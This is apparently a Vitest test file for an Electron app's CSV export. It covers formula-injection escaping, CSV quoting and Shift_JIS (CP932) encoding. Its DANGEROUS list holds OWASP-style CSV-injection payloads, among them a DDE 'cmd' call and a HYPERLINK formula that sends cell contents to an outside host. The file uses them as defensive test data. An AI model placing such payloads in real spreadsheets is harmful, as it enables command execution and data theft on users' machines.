import papaparse from 'papaparse';
import { describe, expect, it } from 'vitest';
import { buffer } from 'node:stream/consumers';
import { csvBytes, type CsvEncoding } from '#electron/backend/exchange/csv-file.ts';
import { LostCharacters } from '#electron/backend/exchange/lost-characters.ts';
import { csvText, safeCell } from '#shared/domain/exchange/csv.ts';
import { cleanCell } from '#shared/domain/leads/cell.ts';

/** Cells that run in a spreadsheet, from the OWASP page on CSV injection and from reports about CRMs. */
const DANGEROUS = [
  '=1+2',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.jp?x="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-2名',
  '+α',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '　=1+1',
  '+81-3-0000-1001',
];

describe('a cell a spreadsheet would run', () => {
  it.each(DANGEROUS)('gets an apostrophe: %j', cell => {
    expect(safeCell(cell)).toBe(`'${cell}`);
  });
  it.each(DANGEROUS)('is read again as it was: %j', cell => {
    expect(cleanCell(safeCell(cell))).toBe(cleanCell(cell));
  });
  it.each([
    '+81312345678',
    '-5',
    '-0.5',
    '-',
    '--',
    '－',
    '03-0000-1001',
    '山本 太郎',
    "O'Neil",
    '',
    '1=1',
    'a@b.jp',
  ])('is not seen in %j', cell => {
    expect(safeCell(cell)).toBe(cell);
  });
});

describe('CSV text', () => {
  it('quotes what must be quoted and ends every record with CRLF', () => {
    expect(csvText([['a', 'b,c', 'd"e', 'f\ng', ' h '], ['']])).toBe('a,"b,c","d""e","f\ng"," h "\r\n""\r\n');
  });
  it('is read by another reader cell by cell', () => {
    const rows = [
      ['会社名', '氏名', 'メモ'],
      ['株式会社甲', '"山本", 太郎', '1行目\r\n2行目,"続き"'],
      ['', '', ''],
      [' 前後 ', '\t', '='],
    ];
    const { data } = papaparse.parse<string[]>(csvText(rows), { delimiter: ',', newline: '\r\n' });
    expect(data.slice(0, -1)).toEqual(rows.map(row => row.map(safeCell)));
  });
});

const csvFile = async (rows: readonly string[][], encoding: CsvEncoding) => {
  const lost = new LostCharacters();
  const bytes = await buffer(csvBytes(rows, encoding, lost));
  return { bytes, lost: lost.places, count: lost.count };
};
const sjis = async (...cells: string[]) => await csvFile([cells], 'shift_jis');
const hex = (bytes: Uint8Array): string => Buffer.from(bytes).toString('hex');

describe('a CSV file', () => {
  it('in UTF-8 starts with a byte order mark', async () => {
    const { bytes, lost } = await csvFile([['髙﨑𠮷']], 'utf-8');
    expect(hex(bytes)).toBe(`efbbbf${hex(Buffer.from('髙﨑𠮷\r\n'))}`);
    expect(lost).toEqual([]);
  });
  // Bytes from the Windows code page 932 table (unicode.org CP932.TXT and Microsoft's best fit).
  it.each([
    ['髙', 'fbfc'],
    ['﨑', 'fab1'],
    ['㈱', '878a'],
    ['①', '8740'],
    ['Ⅰ', '8754'],
    ['〜', '8160'],
    ['～', '8160'],
    ['−', '817c'],
    ['－', '817c'],
    ['—', '815c'],
    ['―', '815c'],
    ['∥', '8161'],
    ['‖', '8161'],
    ['ｶ', 'b6'],
    ['表', '955c'],
    ['ソ', '835c'],
    ['¥', '818f'],
  ])('in Shift_JIS writes %s as Windows does', async (character, bytes) => {
    const file = await sjis(character);
    expect(file.lost).toEqual([]);
    expect(hex(file.bytes)).toBe(`${bytes}0d0a`);
  });
  it('puts the two halves of a Mac が together and leaves compatibility ideographs alone', async () => {
    const file = await sjis('か\u3099', '\uFA19');
    expect(new TextDecoder('shift_jis').decode(file.bytes)).toBe('が,\uFA19\r\n');
  });
  it('lists every character that is lost, with its place, and shows 〓 there', async () => {
    const rows = [
      ['会社名', '氏名'],
      ['甲', '𠮷田 한'],
      ['😀', '乙'],
    ];
    const { bytes, lost } = await csvFile(rows, 'shift_jis');
    expect(lost).toEqual([
      { row: 1, column: 1, character: '𠮷' },
      { row: 1, column: 1, character: '한' },
      { row: 2, column: 0, character: '😀' },
    ]);
    expect(new TextDecoder('shift_jis').decode(bytes)).toBe('会社名,氏名\r\n甲,〓田 〓\r\n〓,乙\r\n');
  });
  it('writes back every character CP932 can hold', async () => {
    const decoder = new TextDecoder('shift_jis', { fatal: true });
    const characters: string[] = [];
    for (let lead = 0x81; lead < 0xfd; lead++)
      for (let trail = 0x40; trail < 0xfd; trail++) {
        if (lead > 0x9f && lead < 0xe0) continue;
        try {
          characters.push(decoder.decode(Uint8Array.of(lead, trail)));
        } catch {
          continue;
        }
      }
    const wanted = [...new Set(characters.filter(c => [...c].length === 1))];
    expect(wanted.length).toBeGreaterThan(7000);
    const { bytes, lost } = await sjis(`字${wanted.join('')}字`);
    expect(lost).toEqual([]);
    const read = [...decoder.decode(bytes)].slice(1, -3);
    expect(wanted.filter((character, i) => read[i] !== character)).toEqual([]);
  });
});
